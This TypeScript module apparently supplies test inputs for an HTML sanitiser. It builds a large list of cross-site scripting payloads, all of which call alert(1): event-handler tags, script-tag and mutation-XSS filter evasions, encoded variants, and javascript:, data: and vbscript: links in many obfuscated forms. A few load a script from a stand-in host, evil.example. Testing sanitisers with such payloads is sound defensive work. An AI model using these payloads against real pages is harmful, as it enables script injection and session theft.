/**
 * Texts by which a page, a mail or a document might be made to run a script: each is harmless where it does, and says
 * `alert(1)`.
 */
const call = 'alert(1)'

const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
]
const tags = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'details open',
  'input autofocus',
  'a href=#',
  'iframe',
  'math',
  'p',
]

/** Every handler in every tag, quoted in each way and in none. */
const withHandlers = tags.flatMap((tag, at) =>
  handlers.map((handler, n) => {
    const quote = ['"', "'", '', '`'][(at + n) % 4]!
    const name = n % 2 === 0 ? handler : handler.toUpperCase()
    return `<${tag} ${name}=${quote}${call}${quote}>`
  }),
)

const scripts = [
  `<script>${call}</script>`,
  `<SCRIPT>${call}</SCRIPT>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script src=//evil.example/x.js></script>`,
  `<script\n>${call}</script\n>`,
  `<script/x>${call}</script>`,
  `<<script>${call}//<</script>`,
  `</p><script>${call}</script><p>`,
  `--><script>${call}</script><!--`,
  `]]><script>${call}</script>`,
  `<svg><script>${call}</script></svg>`,
  `<math><mi><script>${call}</script></mi></math>`,
  `<template><script>${call}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<style><img src=x onerror=${call}></style>`,
  `<title><img src=x onerror=${call}></title>`,
  `<textarea></textarea><img src=x onerror=${call}>`,
  `<xmp><p title="</xmp><svg onload=${call}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  `<object data="data:text/html,<script>${call}</script>"></object>`,
  `<embed src="javascript:${call}">`,
  `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  `<base href="javascript:${call}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<link rel=stylesheet href="javascript:${call}">`,
  `<p style="background:url(javascript:${call})">`,
  `<p style="width:expression(${call})">`,
  `<form action="javascript:${call}"><button>`,
  `<button formaction="javascript:${call}">`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${call}"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg onload=${call}>">`,
  '{{constructor.constructor("alert(1)")()}}',
  `\${${call}}`,
  `"><img src=x onerror=${call}>`,
  `'><img src=x onerror=${call}>`,
  `" onmouseover="${call}" x="`,
  `' onmouseover='${call}' x='`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&#60;script&#62;${call}&#60;/script&#62;`,
  `&#x3c;script&#x3e;${call}&#x3c;/script&#x3e;`,
  `\u003cscript\u003e${call}\u003c/script\u003e`,
  `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `<img src="x\`<script>${call}</script>"\`>`,
  `<!--[if gte IE 4]><script>${call}</script><![endif]-->`,
  `<?xml version="1.0"?><script>${call}</script>`,
  `<![CDATA[<script>${call}</script>]]>`,
]

const schemes = [
  'javascript',
  'JavaScript',
  'JAVASCRIPT',
  'vbscript',
  'data',
  'file',
  'blob',
  'view-source',
  'livescript',
  'feed',
]
const ways = [
  (scheme: string) => `${scheme}:${call}`,
  (scheme: string) => ` ${scheme}:${call}`,
  (scheme: string) => `${scheme.slice(0, 4)}\t${scheme.slice(4)}:${call}`,
  (scheme: string) => `${scheme.slice(0, 4)}\n${scheme.slice(4)}:${call}`,
  (scheme: string) => `\u0001${scheme}:${call}`,
  (scheme: string) => `\u00a0${scheme}:${call}`,
  (scheme: string) => `${scheme}&colon;${call}`,
  (scheme: string) => `${scheme}&#58;${call}`,
  (scheme: string) => `&#${scheme.codePointAt(0)};${scheme.slice(1)}:${call}`,
  (scheme: string) => `&#x${scheme.codePointAt(0)!.toString(16)};${scheme.slice(1)}:${call}`,
  (scheme: string) => `${scheme}://plant.example/%0a${call}`,
  (scheme: string) => `${scheme}:text/html;base64,YWxlcnQoMSk=`,
]

/** Where links might lead: schemes that run something, written in each way. */
export const hostileLinks: readonly string[] = [
  ...schemes.flatMap((scheme) => ways.map((way) => way(scheme))),
  `//evil.example/${call}`,
  `/\\evil.example/${call}`,
  `#"><script>${call}</script>`,
]

/** Links that may be kept, and must not leave their attribute. */
export const oddLinks: readonly string[] = [
  `https:"onmouseover="${call}`,
  `https://plant.example/"onmouseover="${call}`,
  `https://plant.example/'onmouseover='${call}`,
  `https://plant.example/><script>${call}</script>`,
  `https://plant.example/&quot;onmouseover=&quot;${call}`,
  `mailto:ada@plant.example?body=<script>${call}</script>`,
  `tel:+90"onclick="${call}`,
]

export const hostileTexts: readonly string[] = [...withHandlers, ...scripts, ...hostileLinks, ...oddLinks]
